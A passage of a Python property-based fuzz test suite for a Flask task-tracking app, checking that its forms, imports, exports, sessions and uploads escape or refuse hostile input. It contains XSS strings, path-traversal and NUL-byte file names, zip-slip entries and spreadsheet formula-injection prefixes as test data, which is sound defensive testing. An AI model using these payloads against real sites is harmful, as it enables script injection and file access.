    st.lists(hostile_row, min_size=1, max_size=3).map(
        lambda rows: _csv(_plan_rows(rows), "utf-16")),
    st.lists(st.lists(text, max_size=5), max_size=4).map(_csv),
    st.lists(hostile_row, min_size=1, max_size=2).map(
        lambda rows: _xlsx(_plan_rows([[CONTROL_CHARACTERS.sub("", cell)
                                        for cell in row] for row in rows]))),
)
plan_name = st.one_of(
    st.sampled_from(["ke-hoach.xlsx", "ke-hoach.csv", "plan.xls", "plan.txt",
                     "plan.xlsm", "plan", "plan.exe", "plan.CSV", ".csv",
                     "../../etc/passwd.csv", "C:\\Users\\a\\plan.csv",
                     "<script>x</script>.csv", "a\x00b.csv", "a\x01b.csv",
                     "a\u202eb.csv", "x" * 400 + ".csv", ""]),
    text.map(lambda t: t[:300]),
)


@FUZZ
@given(content=plan_file, filename=plan_name, extra=form({"anything": value}),
       confirm=st.booleans())
def test_plan_import(client, admin, db, content, filename, extra, confirm):
    data = {**extra, "file": (io.BytesIO(content), filename)}
    response = client.post("/quarters/2023-Q2/import", data=data,
                           content_type="multipart/form-data")
    assert response.status_code in ANSWERS, (response.status_code, filename)
    html = response.get_data(as_text=True)
    shown = {"filename": filename, **{str(i): cell for i, cell in enumerate(
        content.decode("utf-8", "replace").split(","))}}
    typed_text_is_escaped(response, shown)
    stored_data_is_valid(db)
    token = re.search(r'name="token" value="([^"]+)"', html)
    if confirm and token:
        response = client.post("/quarters/2023-Q2/import/confirm",
                               data={"token": token.group(1)})
        assert response.status_code in ANSWERS
        for page in ("/quarters/2023-Q2/", "/admin/audit"):
            typed_text_is_escaped(client.get(page), shown)
        stored_data_is_valid(db)


@FUZZ
@given(data=form({"token": st.one_of(
    value, st.text(alphabet=string.ascii_letters + "_-\n\x00", min_size=18,
                   max_size=70))}), key=st.sampled_from(["2023-Q2", "2023-Q1", "x"]))
def test_plan_import_confirm(client, admin, db, data, key):
    post_and_check(client, db, f"/quarters/{key}/import/confirm", data)


@FUZZ
@given(data=form({"task": st.one_of(value, choice_or(ODD_NUMBERS, numeric=True))}),
       real=st.sampled_from(["none", "some", "with garbage"]),
       key=st.sampled_from(["2023-Q1", "2023-Q2", "2023-Q4", "x"]),
       confirm=st.booleans())
def test_plan_next(client, admin, db, ids, data, real, key, confirm):
    """Choosing, previewing and confirming the next quarter's plan, with anything."""
    chosen = [str(ids["training"]), str(ids["congress"])]
    if real == "some":
        data = dict(data, task=chosen)
    elif real == "with garbage":
        extra = data.get("task", "")
        data = dict(data, task=chosen + (extra if isinstance(extra, list) else [extra]))
    path = f"/quarters/{key}/plan-next" + ("/confirm" if confirm else "")
    post_and_check(client, db, path, data, extra_pages=[f"/quarters/{key}/plan-next"])


@FUZZ
@given(data=form({"token": value, "name": value}),
       key=st.sampled_from(["2023-Q2", "2023-Q1", "x"]))
def test_plan_import_outside_unit(client, admin, db, data, key):
    post_and_check(client, db, f"/quarters/{key}/import/outside-unit", data)


# ----------------------------------------------------------------- sessions, limits


@FUZZ
@given(data=form({"anything": value}), which=st.one_of(
    st.sampled_from(["own", "other", "missing"]), st.integers(-5, 10**6)))
def test_end_session(client, admin, db, data, which):
    from tracker.models import SignInSession

    own = db.session.scalar(db.select(SignInSession.id).where(
        SignInSession.user_id == admin.id, SignInSession.ended_at.is_(None)))
    other = db.session.scalar(db.select(SignInSession.id).where(
        SignInSession.user_id != admin.id))
    session_id = {"own": own, "other": other, "missing": 10**9}.get(which, which)
    if session_id is None or (isinstance(session_id, int) and session_id < 0):
        session_id = 0
    response = post_and_check(client, db, f"/account/sessions/{session_id}/end", data)
    if which == "other" and other is not None:
        assert response.status_code == 404
    if response.status_code == 302 and response.headers["Location"] == "/login":
        client.post("/login", data={"username": "admin_user",
                                    "password": "secret-pass"})


@FUZZ
@given(data=form({"username": value, "address": value}))
def test_lift_sign_in_limit(client, boards_admin, db, data):
    post_and_check(client, db, "/admin/sign-ins/lift", data,
                   extra_pages=["/admin/sign-ins"])


DEVICES = ("phone", "desk", "laptop")


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(remember=st.lists(st.booleans(), min_size=3, max_size=3),
       steps=st.lists(st.tuples(st.sampled_from(["logout", "everywhere", "end",
                                                 "password"]),
                                st.sampled_from(DEVICES),
                                st.sampled_from(DEVICES)), max_size=3))
def test_cookie_replay_after_sign_out(app, db, make_user, remember, steps):
    """Whatever signs a device out, copies of its cookies are then refused; the
    devices still signed in keep working."""
    from tracker.models import SignInSession

    if not db.session.scalar(db.select(User).where(User.username == "replay")):
        make_user("replay")
    clients, copies, alive = {}, {}, {}
    for device, keep in zip(DEVICES, remember):
        client = app.test_client()
        client.post("/login", data={"username": "replay", "password": "secret-pass",
                                    **({"remember": "y"} if keep else {})},
                    headers={"User-Agent": device})
        clients[device] = client
        copies[device] = {name: client.get_cookie(name).value
                          for name in ("session", "remember_token")
                          if client.get_cookie(name) is not None}
        alive[device] = True
    for action, device, target in steps:
        client = clients[device]
        if not alive[device]:
            continue
        if action == "logout":
            client.post("/logout")
            alive[device] = False
        elif action == "everywhere":
            client.post("/logout", data={"everywhere": "1"})
            alive = dict.fromkeys(alive, False)
        elif action == "end":
            row = db.session.scalar(db.select(SignInSession.id).where(
                SignInSession.user_agent == target, SignInSession.ended_at.is_(None)))
            if row is not None:
                client.post(f"/account/sessions/{row}/end")
                alive[target] = False
        else:
            client.post("/account/password", data={
                "current_password": "secret-pass", "new_password": "mot-mat-khau-moi",
                "confirm": "mot-mat-khau-moi"})
            alive = dict.fromkeys(alive, False)
        db.session.rollback()
    for device in DEVICES:
        for name, cookie in copies[device].items():
            replay = app.test_client()
            replay.set_cookie(name, cookie)
            status = replay.get("/quarters/").status_code
            assert status == (200 if alive[device] else 302), (device, name, steps)
    # The next example starts over with the same account.
    db.session.execute(db.delete(SignInSession))
    user = db.session.scalar(db.select(User).where(User.username == "replay"))
    user.set_password("secret-pass")
    db.session.commit()


# ----------------------------------------------------------------- formulas


def exports_hold_no_live_formula(client, quarters=("2023-Q1", "2023-Q2")):
    """Open every export with openpyxl and the csv module: no formula anywhere."""
    import csv

    from openpyxl import load_workbook

    from tracker.exports import FORMULA_STARTS, is_risky

    files = []
    for key in quarters:
        files += [f"/quarters/{key}/tasks.csv", f"/quarters/{key}/report.xlsx",
                  f"/quarters/import-template.xlsx?from={key}"]
    files.append("/admin/audit.csv")
    for path in files:
        response = client.get(path)
        assert response.status_code == 200, path
        if ".csv" in path:
            rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
            for row in rows:
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (path, cell[:80])
        else:
            for sheet in load_workbook(io.BytesIO(response.data)).worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path, sheet.title, cell.value)
                        if is_risky(cell.value):
                            assert cell.data_type == "s" and cell.quotePrefix, (
                                path, cell.coordinate)


formula = st.one_of(
    st.sampled_from(FORMULAS),
    st.builds(lambda start, rest: start + rest,
              st.sampled_from(["=", "+", "-", "@", "'=", "''"]),
              st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")),
                      max_size=30)),
)


@settings(max_examples=6, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture,
                                 HealthCheck.too_slow])
@given(formula=formula)
def test_formulas_typed_into_every_form_reach_every_export_as_text(
    client, admin, db, ids, units, formula
):
    """A formula in a task's text, a report, a share, a direction, a unit's name and
    a person's name: every export holds it as text only."""
    task = f"/tasks/{ids['congress']}"
    bdv = units["BDV"]
    answers = [
        client.post("/tasks/new?quarter=2023-Q2", data={
            "kind": "other", "title": formula.strip() or "=x", "lead_unit_id": bdv,
            "result": formula, "description": formula, "source_document": formula,
            "target_label": formula[:100]}),
        client.post(f"/tasks/{ids['training']}/status", data={
            "status": "in_progress", "progress": "40", "note": formula}),
        client.post(f"/tasks/{ids['shared']}/share", data={
            "unit_id": ids["share_units"][0], "share_status": "in_progress",
            "share_note": formula}),
        client.post(f"{task}/direction", data={"direction": formula}),
        client.post(f"/admin/units/{units['HND']}", data={
            "name": (formula.strip() or "=x") + " HND", "short_name": "HND",
            "kind": "mass_org", "parent_id": "0", "sort_order": "3"}),
        client.post(f"/admin/users/{_user_id(db, 'canbo_bdv')}", data={
            "full_name": formula[:200], "role": "staff", "units": bdv}),
        client.post("/quarters/2023-Q2/report", data={
            "number": "", "signer_title": "head", "strengths": formula,
            "signer_name": formula[:200]}),
    ]
    assert all(response.status_code in ANSWERS for response in answers)
    exports_hold_no_live_formula(client)


@settings(max_examples=6, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture,
                                 HealthCheck.too_slow])
@given(cells=st.lists(formula, min_size=3, max_size=3),
       as_xlsx=st.booleans())
def test_formulas_through_the_import_stay_text_and_round_trip(
    client, admin, db, cells, as_xlsx
):
    """A plan whose cells are formulas imports as text, exports as text, and the
    export imports back to the same text."""
    title = (CONTROL_CHARACTERS.sub("", " ".join(cells[0].split())) or "=x")[:400]
    rows = _plan_rows([["training", title, "BDV", "", cells[1].strip(), "",
                        cells[2].strip()[:100]]])
    rows = [[CONTROL_CHARACTERS.sub("", cell) for cell in row] for row in rows]
    content = _xlsx(rows) if as_xlsx else _csv(rows)
    name = "ke-hoach.xlsx" if as_xlsx else "ke-hoach.csv"
    preview = client.post("/quarters/2023-Q2/import",
                          data={"file": (io.BytesIO(content), name)},
                          content_type="multipart/form-data")
    assert preview.status_code in (200, 400)
    token = re.search(r'name="token" value="([^"]+)"', preview.get_data(as_text=True))
    if token is None:
        return  # refused with a message (e.g. already imported): nothing to check
    client.post("/quarters/2023-Q2/import/confirm", data={"token": token.group(1)})
    db.session.rollback()
    if not as_xlsx:
        # A CSV cell "'=…" is how our own exports write "=…": it reads as that.
        from tracker.exports import csv_text_in

        title = csv_text_in(title)
    stored = db.session.scalar(db.select(Task).where(Task.title == title))
    assert stored is not None, title
    exports_hold_no_live_formula(client, quarters=("2023-Q2",))
    # What the export wrote, the import reads back the same.
    from tracker.reports.imports import read_cells

    exported = client.get("/quarters/2023-Q2/tasks.csv").data
    cells_read = [cell for row in read_cells(exported, "x.csv") for cell in row]
    assert title in cells_read


@FUZZ
@given(data=form({"name": value, "scope": choice_or(["read", "write"]),
                  "expires_on": value}))
def test_token_create(client, admin, db, data):
    post_and_check(client, db, "/account/tokens", data)


@FUZZ
@given(data=form({"anything": value}), which=st.one_of(
    st.sampled_from(["own", "missing"]), st.integers(-5, 10**6)))
def test_token_revoke(client, admin, db, data, which):
    from tracker.api.tokens import create_token

    row, _secret = create_token(admin, "script")
    db.session.commit()
    token_id = {"own": row.id, "missing": 10**9}.get(which, which)
    post_and_check(client, db, f"/account/tokens/{max(token_id, 0)}/revoke", data)


# ----------------------------------------------------------------- comments and the
# calendar address


# Markdown and the markup people try in it, beside anything at all.
MARKDOWN = st.one_of(text, st.sampled_from([
    "**đậm** _nghiêng_ [liên kết](https://example.vn) @admin @khong_co",
    "<script>alert(1)</script>", "[x](javascript:alert(1))",
    "<img src=x onerror=alert(1)>", "![x](x\" onerror=\"alert(1))",
    "| a | b |\n|---|---|\n| <b>1</b> | 2 |", "```\n<script>\n```", "@" * 70,
]))


@FUZZ
@given(data=st.one_of(form({"body": value}), form({"body": MARKDOWN}, False)))
def test_comment_create(client, admin, db, ids, data):
    post_and_check(client, db, f"/tasks/{ids['training']}/comments", data,
                   extra_pages=[f"/tasks/{ids['training']}"])


@FUZZ
@given(data=st.one_of(form({"body": value}), form({"body": MARKDOWN}, False)),
       which=st.one_of(st.sampled_from(["own", "missing"]), st.integers(-5, 10**6)))
def test_comment_edit(client, admin, db, ids, data, which):
    from tracker.comments.services import post_comment
    from tracker.models import Task

    comment = post_comment(db.session.get(Task, ids["training"]), "Ý kiến", admin)
    db.session.commit()
    comment_id = {"own": comment.id, "missing": 10**9}.get(which, which)
    post_and_check(client, db, f"/comments/{max(comment_id, 0)}/edit", data,
                   extra_pages=[f"/tasks/{ids['training']}"])


@FUZZ
@given(data=form({"anything": value}),
       action=st.sampled_from(["/account/calendar", "/account/calendar/revoke"]))
def test_calendar_address(client, admin, db, data, action):
    post_and_check(client, db, action, data)


# ----------------------------------------------------------------- follow-up


def follow_up_is_valid(db):
    """Check the acknowledgements, watches and extension requests stored."""
    from tracker.models import DeadlineExtension, Watch

    for item in db.session.scalars(db.select(DeadlineExtension)):
        assert item.state in ("pending", "approved", "refused")
        assert item.reason.strip() and len(item.reason) <= 2000
        assert not CONTROL_CHARACTERS.search(item.reason + item.decision_note)
        assert item.previous_due_on is None or item.proposed_on > item.previous_due_on
    for task in db.session.scalars(db.select(Task)):
        assert (task.acknowledged_at is None) == (task.acknowledged_by_id is None)
    for watch in db.session.scalars(db.select(Watch)):
        assert (watch.task_id is None) != (watch.quarter_id is None)


@pytest.fixture
def lead_staff(client, login_as, demo, ids):
    """Sign in as staff of the congress's lead unit (who acknowledge and ask)."""
    unit = demo.session.get(Unit, ids["congress_lead"])
    return login_as("staff", units=[unit], username="lead_staff")


@FUZZ
@given(data=form({"unit_id": st.one_of(number, value)}))
def test_acknowledge(client, lead_staff, db, ids, data):
    data = dict(data)
    if data.get("unit_id") == "lead":
        data["unit_id"] = str(ids["congress_lead"])
    post_and_check(client, db, f"/tasks/{ids['congress']}/acknowledge", data,
                   extra_pages=[f"/tasks/{ids['congress']}", "/quarters/2023-Q2/"])
    follow_up_is_valid(db)


@FUZZ
@given(data=form({"watch": choice_or(["0", "1"])}),
       where=st.sampled_from(["task", "quarter", "closed"]))
def test_watch(client, admin, db, ids, data, where):
    path = {"task": f"/tasks/{ids['congress']}/watch",
            "quarter": "/quarters/2023-Q2/watch",
            "closed": "/quarters/2023-Q1/watch"}[where]
    post_and_check(client, db, path, data)
    follow_up_is_valid(db)


FUTURE_DATES = st.dates(min_value=dt.date(2023, 5, 1), max_value=dt.date(2025, 1, 1))


@FUZZ
@given(data=st.one_of(
    form({"proposed_on": value, "reason": value}),
    form({"proposed_on": FUTURE_DATES.map(lambda d: d.strftime("%d/%m/%Y")),
          "reason": text}, False),
))
def test_extension_request(client, lead_staff, db, ids, data):
    post_and_check(client, db, f"/tasks/{ids['congress']}/extension", data,
                   extra_pages=[f"/tasks/{ids['congress']}", "/me"])
    follow_up_is_valid(db)


@FUZZ
@given(data=form({"decision": choice_or(["approve", "refuse"]), "note": value,
                  "back": choice_or(["me"])}),
       which=st.sampled_from(["pending", "missing", "other"]))
def test_extension_decide(client, admin, db, ids, data, which):
    from tracker.followup.services import pending_extension, request_extension

    task = db.session.get(Task, ids["training"])
    extension = pending_extension(task)
    if extension is None:
        due = task.effective_due_on or task.quarter.ends_on
        extension = request_extension(task, due + dt.timedelta(days=3), "Lý do",
                                      admin)
        db.session.commit()
    path = f"/tasks/{ids['training']}/extension/{extension.id}"
    if which == "missing":
        path = f"/tasks/{ids['training']}/extension/{10**9}"
    elif which == "other":
        path = f"/tasks/{ids['congress']}/extension/{extension.id}"
    post_and_check(client, db, path, data,
                   extra_pages=[f"/tasks/{ids['training']}", "/me"])
    follow_up_is_valid(db)


# ----------------------------------------------------------------- petitions


def _petition(db, state="received"):
    from tracker.models.petition import Petition

    return db.session.scalar(db.select(Petition.id).where(
        Petition.state == state, Petition.is_imported.is_(False)).order_by(Petition.id))


PETITION = {"citizen": value, "commune": value, "content": value,
            "field": choice_or(["land", "policy", "other"]),
            "answering_unit_id": value, "answering_body": value, "due_on": value}


@FUZZ
@given(data=form(PETITION))
def test_petition_create(client, admin, db, data):
    task = get_task("tiếp xúc, đối thoại giữa Bí thư").id
    post_and_check(client, db, f"/petitions/new?task={task}", data,
                   extra_pages=["/petitions/"])


@FUZZ
@given(data=form(PETITION))
def test_petition_edit(client, admin, db, data):
    petition = _petition(db)
    post_and_check(client, db, f"/petitions/{petition}/edit", data,
                   extra_pages=[f"/petitions/{petition}"])


@FUZZ
@given(action=st.sampled_from(["forward", "answer", "close"]), data=form({
    "forwarded_on": value, "note": value, "answer": value, "answered_on": value,
    "reason": value, "closed_on": value}))
def test_petition_actions(client, admin, db, action, data):
    petition = _petition(db)
    post_and_check(client, db, f"/petitions/{petition}/{action}", data,
                   extra_pages=[f"/petitions/{petition}"])


# ----------------------------------------------------------------- congresses


TERM = {"organisation": value, "level": choice_or(["district", "commune"]),
        "unit_id": value, "ordinal": choice_or(["1", "12", "19"], numeric=True),
        "term_start": choice_or(["2018", "2023"], numeric=True),
        "term_end": choice_or(["2023", "2028"], numeric=True),
        "last_held_on": value}


def terms_are_valid(db):
    """Terms as the term form and holding a congress may leave them."""
    from tracker.models import CONGRESS_LEVELS, CongressTerm

    for term in db.session.scalars(db.select(CongressTerm)):
        _clean(term.organisation, 300, required=True)
        assert term.level in CONGRESS_LEVELS and 1 <= term.ordinal <= 100
        assert 1945 <= term.term_start < term.term_end <= term.term_start + 10
        assert term.unit_id is None or db.session.get(Unit, term.unit_id) is not None


def _term(db):
    from tracker.models import CongressTerm

    return db.session.scalar(db.select(CongressTerm.id).order_by(CongressTerm.id))


@FUZZ
@given(data=form(TERM))
def test_term_create(client, admin, db, data):
    post_and_check(client, db, "/congresses/new", data, extra_pages=["/congresses/"])
    terms_are_valid(db)


@FUZZ
@given(data=form(TERM))
def test_term_edit(client, admin, db, data):
    term = _term(db)
    post_and_check(client, db, f"/congresses/{term}/edit", data,
                   extra_pages=[f"/congresses/{term}", "/congresses/", "/me"])
    terms_are_valid(db)


# ----------------------------------------------------------------- the registry


def _initiative(db):
    from tracker.models.initiative import Initiative

    return db.session.scalar(db.select(Initiative.id).where(
        Initiative.state == "registered", Initiative.is_imported.is_(False))
        .order_by(Initiative.id))


INITIATIVE = {"name": value, "field": choice_or(["economy", "culture_society"]),
              "unit_id": value, "commune": value,
              "year": choice_or(["2023"], numeric=True),
              "beneficiaries": value, "registered_on": value}


@FUZZ
@given(data=form(INITIATIVE))
def test_initiative_create(client, admin, db, data):
    post_and_check(client, db, "/initiatives/new", data,
                   extra_pages=["/initiatives/"])


@FUZZ
@given(data=form(INITIATIVE))
def test_initiative_edit(client, admin, db, data):
    initiative = _initiative(db)
    post_and_check(client, db, f"/initiatives/{initiative}/edit", data,
                   extra_pages=[f"/initiatives/{initiative}", "/initiatives/"])


@FUZZ
@given(data=form({
    "state": choice_or(["building", "reviewed", "recognised", "dropped"]),
    "on": value, "level": choice_or(["district", "central", ""]),
    "decision_number": value, "note": value}))
def test_initiative_step(client, admin, db, data):
    initiative = _initiative(db)
    post_and_check(client, db, f"/initiatives/{initiative}/step", data,
                   extra_pages=[f"/initiatives/{initiative}", "/initiatives/"])


# ----------------------------------------------------------------- notifications


@FUZZ
@given(data=form({"open": value, "anything": value}),
       which=st.one_of(st.just("own"), st.integers(0, 10**6)))
def test_notification_read(client, admin, db, data, which):
    from tracker.models import Notification

    own = db.session.scalar(db.select(Notification.id).where(
        Notification.user_id == admin.id).limit(1)) or 1
    notice = own if which == "own" else which
    post_and_check(client, db, f"/notifications/{notice}/read", data)


@FUZZ
@given(data=form({"anything": value}))
def test_notification_read_all(client, admin, db, data):
    post_and_check(client, db, "/notifications/read-all", data,
                   extra_pages=["/notifications/"])


@FUZZ
@given(data=form({"email": value,
                  "frequency": choice_or(["immediately", "daily", "off"])}))
def test_mail_preferences(client, admin, db, data):
    post_and_check(client, db, "/notifications/preferences", data,
                   extra_pages=["/account/"])


# ----------------------------------------------------------------- saved searches

def saved_searches_are_valid(db):
    """Check the kept searches: a name within its length, no control characters."""
    from tracker.models import SavedSearch

    for saved in db.session.scalars(db.select(SavedSearch)):
        _clean(saved.name, 80, required=True)
        assert saved.name == " ".join(saved.name.split()), saved.name
        _clean(saved.query, 4000)


def _own_saved(db, admin):
    import uuid

    from tracker.models import SavedSearch

    saved = SavedSearch(user_id=admin.id, board_id=admin.board_id,
                        name=f"Đã lưu {uuid.uuid4().hex[:8]}",
                        query="q=dan+van")
    db.session.add(saved)
    db.session.commit()
    return saved.id


@FUZZ
@given(data=form({"name": value, "query": st.one_of(value, st.sampled_from([
    "q=dan+van&kind=dialogue", "unit=%C2%B2&from=2023-Q5", "page=2", "&&==",
    "q=" + "%E1%BB%87" * 300]))}))
def test_search_save(client, admin, db, data):
    post_and_check(client, db, "/search/saved", data, extra_pages=["/search"])
    saved_searches_are_valid(db)


@FUZZ
@given(data=form({"name": value}), which=st.one_of(st.just("own"),
                                                   st.integers(0, 10**6)))
def test_search_rename_and_delete(client, admin, db, data, which):
    saved = _own_saved(db, admin) if which == "own" else which
    post_and_check(client, db, f"/search/saved/{saved}/rename", data,
                   extra_pages=["/search"])
    post_and_check(client, db, f"/search/saved/{saved}/delete", data,
                   extra_pages=["/search"])
    saved_searches_are_valid(db)


@FUZZ
@given(args=st.dictionaries(
    st.sampled_from(["q", "kind", "unit", "role", "commune", "status", "timeliness",
                     "from", "to", "page", "other"]),
    st.one_of(value, st.sampled_from([
        "9250633586", "2147483648", "²", "٣", "0", "-1", "2023-Q1", "2023-Q5",
        "9999-Q4", "lead", "overdue", "dialogue"]))))
def test_search_query_string(client, admin, db, args):
    response = client.get("/search", query_string=args)
    # (A NUL byte in the query is refused before the view: tracker.security.)
    assert response.status_code in (200, 400), (args, response.status_code)
    typed_text_is_escaped(response, {k: v for k, v in args.items() if k == "q"})


# ----------------------------------------------------------------- evidence files

def _file_contents():
    from tests.files import samples

    return st.one_of(
        st.sampled_from([samples.pdf(), samples.png(), samples.jpg(), samples.exe(),
                         b"", b"%PDF", b"PK\x03\x04", b"\x00" * 10]),
        st.binary(max_size=300),
        st.builds(samples.zip_of, st.lists(st.sampled_from(
            ["[Content_Types].xml", "word/document.xml", "xl/workbook.xml",
             "word/vbaProject.bin", "../../evil", "a.txt"]), max_size=4)),
        st.builds(lambda head, size: head + b"x" * size,
                  st.sampled_from([b"%PDF-", b"\x89PNG\r\n\x1a\n"]),
                  st.integers(0, 20_000)),
    )


file_name = st.one_of(text, st.sampled_from(
    ["bien-ban.pdf", "../../etc/passwd", "C:\\evil\\x.exe", "<b>x</b>.png",
     "a/b/c.docx", ".htaccess", "x.pdf\x00.exe", "", " ", "..", "con.jpg"]))


def files_are_sound(db):
    """Check every stored file's row against its bytes; no upload left half-done."""
    import hashlib
    import os

    from tracker.files import storage
    from tracker.files.content import KINDS
    from tracker.models import StoredFile

    folder = storage.files_dir()
    types = {kind.content_type: kind.extension for kind in KINDS.values()}
    for stored in db.session.scalars(db.select(StoredFile).where(
            StoredFile.removed_at.is_(None))):
        name = stored.original_name
        assert name and not CONTROL_CHARACTERS.search(name) and len(name) <= 255
        assert "/" not in name and "\\" not in name and not name.startswith(".")
        assert name.endswith("." + types[stored.content_type]), name
        with open(storage.path_of(stored.storage_key), "rb") as handle:
            content = handle.read()
        assert len(content) == stored.size > 0
        assert hashlib.sha256(content).hexdigest() == stored.sha256
    incoming = os.path.join(folder, storage.TEMP_FOLDER)
    assert not os.path.isdir(incoming) or not os.listdir(incoming)


@FUZZ
@given(data=form({"status": choice_or(STATUSES), "progress": choice_or(
           ["0", "50", "100"], numeric=True), "note": value}),
       files=st.lists(st.tuples(_file_contents(), file_name), max_size=4),
       to_share=st.booleans())
def test_files(client, admin, db, ids, data, files, to_share):
    """Multipart bodies of any files, names and fields, to both upload forms."""
    body = dict(data)
    body["files"] = [(io.BytesIO(content), name) for content, name in files]
    if to_share:
        body["unit_id"] = ids["share_units"][0]
        body["share_status"] = data.get("status", "done")
        path = f"/tasks/{ids['shared']}/share"
    else:
        path = f"/tasks/{ids['training']}/status"
    response = client.post(path, data=body, content_type="multipart/form-data")
    assert response.status_code in ANSWERS, (response.status_code, files)
    shown = {**data, **{str(i): name for i, (_c, name) in enumerate(files)}}
    typed_text_is_escaped(response, shown)
    task_id = ids["shared"] if to_share else ids["training"]
    page = client.get(f"/tasks/{task_id}")
    typed_text_is_escaped(page, shown)
    stored_data_is_valid(db)
    files_are_sound(db)


@FUZZ
@given(data=form({"anything": value}),
       which=st.one_of(st.just("own"), st.integers(0, 10**6)))
def test_file_remove(client, admin, db, ids, data, which):
    from tests.files.samples import attach
    from tracker.models import StoredFile

    if which == "own":
        task = db.session.get(Task, ids["training"])
        which = attach(task, admin).id
        db.session.commit()
    response = client.post(f"/files/{which}/remove", data=data)
    assert response.status_code in ANSWERS
    if response.status_code == 302:
        assert db.session.get(StoredFile, which).is_removed
    stored_data_is_valid(db)
    files_are_sound(db)


# ----------------------------------------------------------------- coverage

FUZZED = {
    "congresses.create": test_term_create, "congresses.edit": test_term_edit,
    "petitions.create": test_petition_create, "petitions.edit": test_petition_edit,
    "petitions.forward": test_petition_actions,
    "petitions.answer": test_petition_actions, "petitions.close": test_petition_actions,
    "initiatives.create": test_initiative_create,
    "initiatives.edit": test_initiative_edit, "initiatives.step": test_initiative_step,
    "notifications.read": test_notification_read,
    "notifications.read_all": test_notification_read_all,
    "notifications.preferences": test_mail_preferences,
    "auth.login": test_login, "auth.logout": test_logout,
    "auth.change_password": test_change_password,
    "quarters.create": test_quarter_create, "quarters.close": test_close,
    "quarters.approve": test_approve, "quarters.reopen": test_reopen,
    "quarters.change_state": test_state_change,
    "tasks.create": test_task_create, "tasks.edit": test_task_edit,
    "tasks.report": test_progress, "tasks.report_share": test_share,
    "files.remove": test_file_remove,
    "tasks.direct": test_direction, "tasks.archive": test_archive_and_restore,
    "tasks.restore": test_archive_and_restore,
    "admin.new_user": test_admin_new_user, "admin.edit_user": test_admin_edit_user,
    "admin.reset_password": test_admin_reset_password,
    "admin.deactivate_user": test_admin_user_active,
    "admin.reactivate_user": test_admin_user_active,
    "admin.new_unit": test_admin_new_unit, "admin.edit_unit": test_admin_edit_unit,
    "admin.new_group": test_admin_new_group, "admin.edit_group": test_admin_edit_group,
    "reports.import_outside_unit": test_plan_import_outside_unit,
    "admin.deactivate_unit": test_admin_unit_active,
    "admin.reactivate_unit": test_admin_unit_active,
    "reports.settings": test_report_settings,
    "reports.briefing_meeting": test_briefing_meeting,
    "reports.organisation": test_organisation,
    "reports.import_plan": test_plan_import,
    "boards.new": test_board_new,
    "boards.edit": test_board_edit,
    "boards.merge": test_board_merge,
    "boards.add_member": test_board_members,
    "boards.remove_member": test_board_member_removal,
    "reports.confirm_import": test_plan_import_confirm,
    "reports.plan_next": test_plan_next, "reports.confirm_plan_next": test_plan_next,
    "auth.end_session": test_end_session,
    "admin.lift_sign_in_limit": test_lift_sign_in_limit,
    "auth.create_token": test_token_create, "auth.revoke_token": test_token_revoke,
    "comments.create": test_comment_create, "comments.edit": test_comment_edit,
    "auth.create_calendar_token": test_calendar_address,
    "auth.revoke_calendar_token": test_calendar_address,
    "followup.acknowledge": test_acknowledge, "followup.watch_task": test_watch,
    "followup.watch_quarter": test_watch,
    "followup.request_extension": test_extension_request,
    "search.save": test_search_save, "search.rename": test_search_rename_and_delete,
    "search.delete": test_search_rename_and_delete,
    "followup.decide_extension": test_extension_decide,
}


def test_every_form_is_fuzzed(app):
    """Every route that takes a POST has a fuzz test here; a new form must add one."""
    # The API's POST is fuzzed against its OpenAPI document by schemathesis
    # (tests/api/test_schemathesis.py).
    posted = {rule.endpoint for rule in app.url_map.iter_rules()
              if "POST" in rule.methods and not rule.endpoint.startswith("api.")}
    unfuzzed = sorted(posted - set(FUZZED))
    assert not unfuzzed, f"POST routes without a fuzz test: {unfuzzed}"
    assert sorted(set(FUZZED) - posted) == [], "stale entries in FUZZED"
    for test in FUZZED.values():
        assert hasattr(test, "hypothesis"), f"{test.__name__} is not property-based"


@pytest.mark.parametrize("number", ["5-" + "B" * 58, "15-ß" * 15, "٣-BC", "1٣-BC"])
def test_report_number_is_refused_unless_it_fits(client, admin, db, number):
    """A number that would be stored longer than its column, or is not ASCII digits,
    is refused with a message (on PostgreSQL the long one was a 500)."""
    before = db.session.scalars(db.select(QuarterReport.number)).all()
    response = client.post("/quarters/2023-Q2/report",
                           data={"number": number, "signer_title": "head"})
    assert response.status_code == 400
    assert db.session.scalars(db.select(QuarterReport.number)).all() == before


def test_report_number_just_fitting_is_saved(client, admin, db):
    response = client.post("/quarters/2023-Q2/report",
                           data={"number": "5-" + "B" * 57, "signer_title": "head"})
    assert response.status_code == 302
    numbers = db.session.scalars(db.select(QuarterReport.number)).all()
    assert "05-" + "B" * 57 in numbers


@pytest.mark.parametrize("code", ["ß" * 30, "ﬀ" * 20])
def test_issuer_code_longer_once_in_capitals_is_refused(client, admin, db, code):
    before = db.session.scalars(db.select(Organisation.issuer_code)).all()
    response = client.post("/reports/organisation", data={
        "superior_body": "HUYỆN ỦY", "issuing_body": "BAN DÂN VẬN", "issuer_code": code,
        "place": "Sơn Tịnh", "unit_id": "0"})
    assert response.status_code == 400
    assert db.session.scalars(db.select(Organisation.issuer_code)).all() == before


@pytest.mark.parametrize("cell", ["title", "description", "result", "source_document"])
def test_plan_cells_with_control_characters_are_refused(client, admin, db, cell):
    row = {"kind": "training", "title": "Lớp tập huấn mới", "lead_unit": "BDV",
           "description": "", "result": "", "source_document": "", "target_label": ""}
    row[cell] = "Lớp\x01 tập\x1b[31m huấn"
    content = _csv(_plan_rows([[row[key] for key in IMPORT_KEYS]]))
    tasks = db.session.scalar(db.select(db.func.count(Task.id)))
    response = client.post("/quarters/2023-Q2/import",
                           data={"file": (io.BytesIO(content), "ke-hoach.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert "control characters" in response.get_data(as_text=True) or \
        "ký tự điều khiển" in response.get_data(as_text=True)
    assert db.session.scalar(db.select(db.func.count(ImportUpload.id))) == 0
    assert db.session.scalar(db.select(db.func.count(Task.id))) == tasks


def test_plan_filename_loses_its_control_characters(client, admin, db):
    content = _csv(VALID_PLAN)
    response = client.post("/quarters/2023-Q2/import",
